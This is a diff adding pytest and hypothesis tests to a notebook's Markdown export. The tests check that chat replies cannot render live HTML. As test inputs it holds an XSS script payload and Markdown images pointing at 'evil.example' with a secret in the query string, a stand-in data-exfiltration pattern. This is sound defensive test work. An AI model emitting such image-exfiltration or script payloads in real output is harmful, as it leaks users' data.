@@ -7,6 +7,8 @@ notebook's or a viewer's Markdown renderer does) to see what a reader would get.
 from __future__ import annotations
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 
 from cm_notebook.export import ExportDocument, to_markdown
@@ -209,3 +211,72 @@ def test_quotes_lists_and_code_in_lists_keep_their_form() -> None:
     )
     assert "   make && ./run &lt;x>" in markdown
     assert "if a &lt; b and c &gt; d: pass" in rendered
+
+
+def _reply_rendered(content: str) -> str:
+    return _rendered(
+        _conversation(
+            Message(role="user", content="hi"), Message(role="assistant", content=content)
+        )
+    )
+
+
+@pytest.mark.parametrize(
+    ("content", "shown"),
+    [
+        ("Use `vector<int>` and `a && b`.", ["vector&lt;int&gt;", "a &amp;&amp; b"]),
+        ("- in a list: `x < 10`\n\n> quoted `<b>`", ["x &lt; 10", "&lt;b&gt;"]),
+        ("``a`b<c`` then `d`", ["a`b&lt;c", ">d<"]),
+    ],
+)
+def test_inline_code_keeps_its_text_as_typed(content: str, shown: list[str]) -> None:
+    rendered = _reply_rendered(content)
+    for text in shown:
+        assert text in rendered  # escaped once, by the renderer: "&lt;", not "&amp;lt;"
+    assert "&amp;lt;" not in rendered
+    assert "&amp;amp;" not in rendered
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        # A link destination with a backtick: readers pair the backticks otherwise.
+        f"[l](u`v) {LIVE} `x`",
+        # A span across lines: a line start inside it could open an HTML block.
+        f"a `b\n<div>{LIVE}</div> c`",
+        # A table row, math, a backslash-escaped backtick.
+        f"| `a|{LIVE}` |",
+        f"$`$ {LIVE} `",
+        f"\\`{LIVE}` x",
+        f"`x` {LIVE} `y`",
+    ],
+)
+def test_inline_code_cannot_carry_markup(content: str) -> None:
+    rendered = _reply_rendered(content)
+    assert "<img" not in rendered
+    assert "<div" not in rendered
+
+
+PIECES = ["`", "``", "<", "&", "a", " ", "\n", "\n\n", "- ", "> ", "*", "[", "](", ")", "|"]
+PIECES += ["$", "\\", "#", "    ", "<div>", LIVE, "<script>alert(2)</script>"]
+
+
+@given(st.lists(st.sampled_from(PIECES), max_size=30))
+@settings(max_examples=300, deadline=None)
+def test_no_mix_of_code_spans_and_markup_renders_live(pieces: list[str]) -> None:
+    rendered = _reply_rendered("".join(pieces))
+    for tag in ("<img", "<div", "<script"):
+        assert tag not in rendered
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        "Look: ![chart](http://evil.example/?q=secret)",
+        "![chart][r]\n\n[r]: http://evil.example/?q=secret",
+    ],
+)
+def test_an_image_is_a_link_not_loaded_on_opening(content: str) -> None:
+    rendered = _reply_rendered(content)
+    assert "<img" not in rendered
+    assert '<a href="http://evil.example/?q=secret">chart</a>' in rendered
